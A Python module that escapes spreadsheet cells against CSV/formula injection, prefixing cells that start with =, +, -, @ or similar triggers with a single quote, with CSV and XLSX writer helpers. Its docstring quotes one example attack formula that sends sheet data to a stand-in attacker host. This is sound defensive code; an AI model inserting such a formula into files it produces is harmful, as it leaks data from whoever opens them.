"""Cells bound for a spreadsheet: text from an inventory must never become a live formula.

Inventories come from suppliers, SBOMs and spreadsheets: untrusted text. A CSV or XLSX cell that
begins with ``=``, ``+``, ``-`` or ``@`` is evaluated as a formula when an officer opens the file
(``=HYPERLINK("http://attacker.example/?d="&A2,"click")`` leaks the sheet with one click), and a
leading TAB or CR moves the formula past some programs' check. Following OWASP's advice on CSV
injection, such a cell is written with a single quote in front: spreadsheet programs show the
text as typed, and a person reading the raw file still reads the whole value.

Every spreadsheet-bound cell the project writes goes through ``spreadsheet_cell``; CSV files are
written with ``spreadsheet_writer``, which applies it to every cell (a test keeps ``csv.writer``
from being used anywhere else).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import TYPE_CHECKING, Protocol

# What makes a spreadsheet program read a cell as a formula (OWASP: CSV injection). The full-width
# forms are included: some programs fold them to ASCII before parsing.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\n＝＋－＠")
QUOTE = "'"


def spreadsheet_cell(value: object) -> object:
    """``value`` made safe for a spreadsheet cell.

    Text that a spreadsheet would evaluate gets a leading single quote; other text, and numbers
    (a quantity stays a number a person can sum), pass unchanged. ``None`` is an empty cell.
    """
    if value is None:
        return ""
    if isinstance(value, str) and value[:1] in FORMULA_TRIGGERS:
        return QUOTE + value
    return value


class _Text(Protocol):
    def write(self, text: str, /) -> object: ...


class _Writer(Protocol):
    def writerow(self, row: Iterable[object], /) -> object: ...


class SpreadsheetWriter:
    """A ``csv.writer`` whose every cell passes through ``spreadsheet_cell``."""

    def __init__(self, writer: _Writer) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([spreadsheet_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def spreadsheet_writer(out: _Text, *, lineterminator: str = "\n") -> SpreadsheetWriter:
    """A CSV writer onto ``out`` for a file a person opens in a spreadsheet program."""
    return SpreadsheetWriter(csv.writer(out, lineterminator=lineterminator))


if TYPE_CHECKING:
    from openpyxl import Workbook


def spreadsheet_workbook(sheets: Iterable[tuple[str, Iterable[Iterable[object]]]]) -> Workbook:
    """An XLSX workbook with one sheet per ``(title, rows)``, every cell passed through
    ``spreadsheet_cell``; the caller may style it (widths, wrapping) but writes no cell itself."""
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.worksheets[0])
    for title, rows in sheets:
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append([spreadsheet_cell(cell) for cell in row])
    return book
